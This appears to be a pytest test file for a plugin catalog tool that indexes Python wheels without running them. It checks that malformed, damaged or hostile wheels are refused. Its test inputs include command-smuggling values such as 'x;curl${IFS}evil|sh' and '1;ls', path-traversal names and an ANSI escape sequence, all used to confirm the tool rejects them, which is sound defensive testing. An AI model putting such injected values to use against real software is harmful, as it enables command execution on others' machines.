"""The catalog: built from wheels without running them, searched offline, append-only."""

import json
import sys
import zipfile
from pathlib import Path
from typing import Any

import msgspec
import pytest
from click.testing import CliRunner, Result
from refiners.catalog import Listed, Release, listed, releases, search
from refiners.catalog.build import add, read_wheel
from refiners.cli import main
from refiners.errors import CatalogError, ManifestError, RefinersError

from ..conftest import EDGES_TOML, TOY_MODEL_TOML, Site

RAISES = "raise RuntimeError('must not be imported')"


def run(*arguments: object) -> Result:
    return CliRunner().invoke(main, [str(argument) for argument in arguments])


def wheel(
    folder: Path, *, version: str = "1.0", files: dict[str, str] | None = None, points: str = ""
) -> Path:
    """Writes a wheel of the edges adapter and the toy model."""
    path = folder / f"refiners_edges-{version}-py3-none-any.whl"
    info = f"refiners_edges-{version}.dist-info"
    points = points or (
        "[refiners.adapters]\nedges = refiners_edges:adapter.toml\n"
        "[refiners.models]\ntoy = refiners_edges:model.toml\n"
    )
    content = {
        "refiners_edges/__init__.py": RAISES,
        "refiners_edges/adapter.toml": EDGES_TOML,
        "refiners_edges/model.toml": TOY_MODEL_TOML,
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: Refiners_Edges\nVersion: {version}\n",
        f"{info}/entry_points.txt": points,
    }
    with zipfile.ZipFile(path, "w") as file:
        for name, text in {**content, **(files or {})}.items():
            if text:
                file.writestr(name, text)
    return path


@pytest.fixture
def catalog(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, site: Site) -> Path:
    folder = tmp_path / "catalog"
    monkeypatch.setenv("REFINERS_CATALOG", str(folder))
    return folder


def test_a_wheel_is_listed_without_being_installed(catalog: Path, tmp_path: Path) -> None:
    result = run("catalog", "build", wheel(tmp_path), "--out", catalog)
    assert result.exit_code == 0, result.output
    edges, toy = listed()
    assert (edges.id, edges.version, edges.bases) == ("refiners-edges:edges", "1.0", ("toy",))
    assert (toy.kind, toy.bases) == ("model", ("toy",))
    assert "refiners_edges" not in sys.modules


def test_a_published_release_never_changes(catalog: Path, tmp_path: Path) -> None:
    add(catalog, read_wheel(wheel(tmp_path)))
    before = {path: path.read_bytes() for path in catalog.rglob("*.jsonl")}
    assert add(catalog, read_wheel(wheel(tmp_path))) == ()
    changed = {"refiners_edges/adapter.toml": EDGES_TOML.replace("Follow", "Trace")}
    with pytest.raises(CatalogError, match="with another edges") as caught:
        add(catalog, read_wheel(wheel(tmp_path, files=changed)))
    assert "Raise the version" in caught.value.hint
    assert {path: path.read_bytes() for path in catalog.rglob("*.jsonl")} == before
    for version in ("1.10", "1.9"):
        add(catalog, read_wheel(wheel(tmp_path, version=version, files=changed)))
    edges = listed()[0]
    assert (edges.version, edges.summary) == ("1.10", "Trace edges")
    assert [release.version for release in releases(edges)] == ["1.0", "1.10", "1.9"]
    for path, content in before.items():
        assert path.read_bytes().startswith(content)


def test_a_development_version_may_be_replaced(catalog: Path, tmp_path: Path) -> None:
    changed = {"refiners_edges/adapter.toml": EDGES_TOML.replace("Follow", "Trace")}
    add(catalog, read_wheel(wheel(tmp_path, version="1.0.dev0")))
    add(catalog, read_wheel(wheel(tmp_path, version="1.0.dev0", files=changed)))
    assert [len(releases(entry)) for entry in listed()] == [1, 1]
    assert listed()[0].summary == "Trace edges"


@pytest.mark.parametrize(
    ("files", "points", "kind"),
    [
        ({"refiners_edges/adapter.toml": "schema = 1"}, "", ManifestError),
        ({"refiners_edges/adapter.toml": ""}, "", CatalogError),
        ({}, "[refiners.adapters]\na = refiners_edges.b:C\n", CatalogError),
        ({}, "no section", CatalogError),
        ({"refiners_edges-1.0.dist-info/METADATA": ""}, "", CatalogError),
        ({"refiners_edges/adapter.toml": "#" * 1_100_000}, "", CatalogError),
        (
            {
                "refiners_edges/w.bin": "other",
                "refiners_edges/model.toml": TOY_MODEL_TOML
                + "[model.toy.weights.w]\nsource = 'pkg:refiners_edges/w.bin'\n"
                + f"sha256 = '{'0' * 64}'\n",
            },
            "",
            CatalogError,
        ),
    ],
)
def test_a_bad_wheel_is_refused(
    catalog: Path, tmp_path: Path, files: dict[str, str], points: str, kind: type[RefinersError]
) -> None:
    path = wheel(tmp_path, files=files, points=points)
    with pytest.raises(kind):
        read_wheel(path)
    assert run("catalog", "build", path, "--out", catalog).exit_code == 1
    assert not catalog.exists()


def test_a_file_that_is_not_a_wheel_is_refused(tmp_path: Path) -> None:
    (tmp_path / "a.whl").write_bytes(b"PK")
    with pytest.raises(CatalogError, match="is not a wheel"):
        read_wheel(tmp_path / "a.whl")


def test_search_covers_installed_and_published_packages(
    catalog: Path, tmp_path: Path, site: Site
) -> None:
    add(catalog, read_wheel(wheel(tmp_path)))
    site.add_toy()
    result = run("search", "TOY")
    assert result.exit_code == 0, result.output
    assert "pip install refiners-edges" in result.stdout
    assert "refiners-toy 1.2" in result.stdout
    matches: Any = json.loads(run("search", "edges", "follow", "--json").stdout)["found"]
    assert [(match["id"], match["installed"]) for match in matches] == [
        ("refiners-edges:edges", False)
    ]
    assert run("search", "nothing-like-it").exit_code == 1


def test_info_on_a_package_that_is_not_installed_comes_from_the_catalog(
    catalog: Path, tmp_path: Path
) -> None:
    add(catalog, read_wheel(wheel(tmp_path)))
    result = run("info", "edges")
    assert result.exit_code == 0, result.output
    assert "pip install refiners-edges" in result.stderr
    facts = json.loads(run("info", "edges", "--json").stdout)
    assert (facts["version"], facts["manifest"]) == ("1.0", "not installed")
    assert facts["variants"][0]["facts"] == {"width": 2}


def test_matches_in_names_come_before_matches_in_summaries() -> None:
    named = Listed(name="b-edges", kind="adapter", distribution="d", summary="")
    described = Listed(name="a", kind="adapter", distribution="d", summary="edges")
    assert search(("edges",), (described, named)) == (named, described)


@pytest.mark.parametrize("text", ["", "[", "[{}]", "[1]", "\x00"])
def test_a_damaged_catalog_raises_a_catalog_error(catalog: Path, text: str) -> None:
    catalog.mkdir()
    (catalog / "search.json").write_text(text)
    with pytest.raises(CatalogError, match="unset REFINERS_CATALOG"):
        listed()
    assert run("search", "edges").exit_code == 1


def test_the_shipped_catalog_has_the_releases_that_it_lists() -> None:
    for entry in listed():
        newest = releases(entry)[-1]
        assert isinstance(newest, Release)
        assert (newest.version, newest.spec["summary"]) == (entry.version, entry.summary)


NAMES = [
    "a/b",
    "../a",
    "/tmp/outside",
    "x;curl${IFS}evil|sh",
    "refiners-\x1b[31medges",
    "-r",
    "a b",
]


@pytest.mark.parametrize("name", NAMES)
def test_a_wheel_with_a_name_that_cannot_be_typed_is_refused(
    catalog: Path, tmp_path: Path, name: str
) -> None:
    metadata = f"Name: {name}\nVersion: 1.0\n\nName: refiners-edges\nVersion: 1.0\n"
    path = wheel(tmp_path, files={"refiners_edges-1.0.dist-info/METADATA": metadata})
    result = run("catalog", "build", path, "--out", catalog)
    assert (result.exit_code, "error: " in result.stderr) == (1, True)
    assert not catalog.exists()


@pytest.mark.parametrize("version", ["abc", "9" * 5000, "1;ls", "1.0-"])
def test_a_version_that_cannot_be_compared_is_not_added(
    catalog: Path, tmp_path: Path, version: str
) -> None:
    add(catalog, read_wheel(wheel(tmp_path)))
    before = listed()
    metadata = {"refiners_edges-2.0.dist-info/METADATA": f"Name: a\nVersion: {version}\n"}
    with pytest.raises(CatalogError):
        read_wheel(wheel(tmp_path, version="2.0", files=metadata))
    odd = Release(name="x", kind="adapter", distribution="refiners-x", version=version, spec={})
    with pytest.raises(CatalogError, match="cannot be published"):
        add(catalog, [odd])
    add(catalog, read_wheel(wheel(tmp_path)))
    assert listed() == before


def spoil(path: Path, central: int, local: int, value: int) -> None:
    """Overwrites a byte in every header of a zip file."""
    raw = bytearray(path.read_bytes())
    for mark, offset in ((b"PK\x01\x02", central), (b"PK\x03\x04", local)):
        at = -1
        while (at := raw.find(mark, at + 1)) >= 0:
            raw[at + offset] = value
    path.write_bytes(raw)


@pytest.mark.parametrize(
    ("central", "local", "value"), [(8, 6, 1), (10, 8, 99), (10, 8, 8), (10, 8, 14)]
)
def test_a_wheel_that_is_encrypted_or_damaged_is_refused(
    tmp_path: Path, central: int, local: int, value: int
) -> None:
    path = wheel(tmp_path)
    spoil(path, central, local, value)
    with pytest.raises(CatalogError, match="is not a wheel of a plugin: "):
        read_wheel(path)


def test_a_wheel_with_two_files_of_one_name_is_refused(tmp_path: Path) -> None:
    path = wheel(tmp_path)
    with zipfile.ZipFile(path, "a") as file, pytest.warns(UserWarning, match="Duplicate"):
        file.writestr("refiners_edges/adapter.toml", "schema = 1")
    with pytest.raises(CatalogError, match="two files of one name"):
        read_wheel(path)


def test_a_large_catalog_has_few_files(catalog: Path) -> None:
    spec = {"summary": "x", "variant": [{}]}
    many = [
        Release(name=f"a{i}", kind="adapter", distribution=f"d{i}", version="1", spec=spec)
        for i in range(200)
    ]
    add(catalog, many)
    assert len([*catalog.rglob("*.jsonl")]) == 16
    assert len(listed()) == 200
    assert [release.version for release in releases(listed()[7])] == ["1"]


def test_an_entry_with_a_separate_file_keeps_it(catalog: Path) -> None:
    spec = {"summary": "x", "variant": [{}]}
    old, new = (
        Release(name="a", kind="adapter", distribution="d", version=version, spec=spec)
        for version in ("1", "2")
    )
    separate = catalog / "entries/d/adapter-a.jsonl"
    separate.parent.mkdir(parents=True)
    separate.write_bytes(msgspec.json.encode(old) + b"\n")
    add(catalog, [new])
    assert [release.version for release in releases(listed()[0])] == ["1", "2"]
    assert [*catalog.rglob("*.jsonl")] == [separate]


@pytest.mark.parametrize("field", ["name", "distribution", "version"])
def test_a_list_with_a_name_that_cannot_be_typed_is_not_read(catalog: Path, field: str) -> None:
    entry = {"name": "a", "kind": "adapter", "distribution": "d", "summary": "", "version": "1"}
    catalog.mkdir()
    (catalog / "search.json").write_text(json.dumps([entry | {field: "x;curl${IFS}evil|sh"}]))
    with pytest.raises(CatalogError, match="cannot be read"):
        listed()
